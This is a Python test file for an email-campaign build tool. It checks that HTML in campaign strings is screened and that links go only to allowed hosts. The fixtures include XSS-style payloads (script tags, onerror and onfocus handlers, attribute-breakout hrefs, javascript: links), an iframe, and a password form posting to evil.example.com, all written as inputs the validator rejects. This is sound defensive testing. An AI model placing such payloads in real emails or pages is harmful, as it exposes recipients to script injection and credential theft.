"""Markup in a campaign's data.strings is screened at its line, as translations are.

`data.strings` reach the email as HTML, and nothing screened their markup: a campaign could
put `<script>`, an `onmouseover`, an `<iframe>`, a password `<form>` or a single-quoted href
holding `"` (which MRML writes again as `\\"`, ending the value) into email.html and
preview.html with no finding. An unquoted attribute failed the job as an MJML error naming the
template. Only the project's typographic tags (no attributes) and links to the brand's site
or `l10n.allowed_links` pass now.
"""

from __future__ import annotations

from pathlib import Path

from tests.campaign_clone import errors, write_clone

CAMPAIGN = "campaigns/ttl.yaml"
MAY = (
    "it may hold only l10n.typographic_tags without attributes (<br>, <em>, <span>, <strong>, "
    '<sub>, <sup>) and links written <a href="..."> to streamly.example or where '
    "l10n.allowed_links allows"
)
LINKS_TO = "links in campaign text go to streamly.example or where l10n.allowed_links allows"


def _campaign(example: Path, strings: str) -> None:
    """A win-back clone for US and FR whose data.strings are `strings` (YAML, indented 4)."""
    write_clone(example, CAMPAIGN, strings)


def test_scripts_handlers_frames_and_forms_are_refused_at_their_line(cli, example):
    _campaign(
        example,
        "    intro: >-\n"
        '      Intro <b onmouseover="alert(1)">x</b> <a href=\'https://streamly.example/" '
        "autofocus onfocus=document.title=1//'>y</a>\n"
        '      <img src="https://cdn.streamly.example/email/x.png" onerror="alert(2)"> '
        '<iframe src="https://evil.example.com/"></iframe>\n'
        '      <form action="https://evil.example.com/"><input name="pw" type="password">'
        "</form> end\n"
        '    script: "Intro <script>alert(1)</script> end"\n'
        '    unquoted: "<img src=x onerror=alert(1)>"\n'
        '    style: "<style>x</style><!-- hidden --><em class=\\"x\\">a</em>"\n',
    )
    result = cli(example, "build", "--no-screenshots", "--campaign", "ttl", "--campaign", "winback")
    assert result.exit_code == 1
    assert errors(result) == [
        f"{CAMPAIGN}:14: data.strings.intro: markup campaign text may not hold: "
        f"<b onmouseover>, <img src onerror>, <iframe src>, <form action>, <input name type>; "
        f"{MAY} [error: schema]",
        f"{CAMPAIGN}:14: data.strings.intro: link 'https://streamly.example/\" autofocus "
        "onfocus=document.title=1//' holds '\"': a link in campaign text holds no quotes, "
        "backslashes, spaces, < or > (write %20 for a space) [error: schema]",
        f"{CAMPAIGN}:18: data.strings.script: markup campaign text may not hold: <script>; "
        f"{MAY} [error: schema]",
        f"{CAMPAIGN}:19: data.strings.unquoted: markup campaign text may not hold: "
        f"<img src onerror>; {MAY} [error: schema]",
        f"{CAMPAIGN}:20: data.strings.style: markup campaign text may not hold: <style>, "
        f"<!-- hidden -->, <em class>; {MAY} [error: schema]",
    ]
    assert not (example / "build/ttl").exists()  # no job of it was built
    assert (example / "build/winback/fr_FR/a/email.html").is_file()  # the others were


def test_links_go_only_where_the_project_allows(cli, example):
    _campaign(
        example,
        "    intro: >-\n"
        '      <a href="javascript:alert(1)">a</a> <a href="https://evil.example.com/">b</a>\n'
        '      <a href="https://streamly.example.evil.example/">c</a>\n'
        '      <a href="https://streamly.example/&#39;x">d</a>\n'
        "      <a href='https://streamly.example/'>f</a>\n"
        '      <a href="mailto:x@evil.example,help@streamly.example">g</a>\n'
        "    open: 'Read <em>this'\n"
        "    escaped: 'A &lt;b&gt;tag&lt;/b&gt;'\n",
    )
    result = cli(example, "build", "--no-screenshots", "--campaign", "ttl")
    assert result.exit_code == 1
    assert errors(result) == [
        f"{CAMPAIGN}:14: data.strings.intro: link 'javascript:alert(1)' is not an https://, "
        f"http:// or mailto: link; {LINKS_TO} [error: schema]",
        f"{CAMPAIGN}:14: data.strings.intro: link 'https://evil.example.com/' goes to "
        f"evil.example.com; {LINKS_TO} [error: schema]",
        f"{CAMPAIGN}:14: data.strings.intro: link 'https://streamly.example.evil.example/' goes "
        f"to streamly.example.evil.example; {LINKS_TO} [error: schema]",
        f'{CAMPAIGN}:14: data.strings.intro: link "https://streamly.example/\'x" holds "\'": a '
        "link in campaign text holds no quotes, backslashes, spaces, < or > (write %20 for a "
        "space) [error: schema]",
        f"{CAMPAIGN}:14: data.strings.intro: link 'https://streamly.example/' is not in double "
        'quotes; write it href="https://streamly.example/" [error: schema]',
        f"{CAMPAIGN}:14: data.strings.intro: link 'mailto:x@evil.example,help@streamly.example' "
        f"is not one address; {LINKS_TO} [error: schema]",
        f"{CAMPAIGN}:20: data.strings.open: unbalanced tags: every opened tag must be closed in "
        "the same order [error: schema]",
        f"{CAMPAIGN}:21: data.strings.escaped: character references that decode to markup: "
        "&gt;, &lt; (write the text itself; campaign text may not build tags, even escaped) "
        "[error: schema]",
    ]


def test_typographic_tags_and_allowed_links_reach_the_email(cli, example):
    _campaign(
        example,
        '    intro: \'Read <a href="https://streamly.example/en/help">the <em>guide</em></a>, '
        '<a href="mailto:help@streamly.example">write</a> or <a href="https://www.streamly.'
        "example/x\">see</a>.<br/>Bye'\n",
    )
    result = cli(example, "build", "--no-screenshots", "--campaign", "ttl", "--locale", "en_US")
    assert result.exit_code == 0, result.output
    html = (example / "build/ttl/en_US/a/email.html").read_text(encoding="utf-8")
    assert (
        'Read <a href="https://streamly.example/en/help">the <em>guide</em></a>, '
        '<a href="mailto:help@streamly.example">write</a> or '
        '<a href="https://www.streamly.example/x">see</a>.<br>Bye</div>'
    ) in html


def test_without_typographic_tags_only_links_pass(cli, example):
    settings = example / "mailglot.yaml"
    text = settings.read_text(encoding="utf-8")
    settings.write_text(
        text.replace("typographic_tags: [sup, sub, br, em, strong, span]", "typographic_tags: []"),
        encoding="utf-8",
    )
    _campaign(example, "    intro: 'An <em>offer</em>'\n")
    result = cli(example, "build", "--no-screenshots", "--campaign", "ttl")
    assert errors(result) == [
        f"{CAMPAIGN}:14: data.strings.intro: markup campaign text may not hold: <em>; it may "
        'hold only links written <a href="..."> to streamly.example or where '
        "l10n.allowed_links allows (and tags listed in l10n.typographic_tags) [error: schema]"
    ]
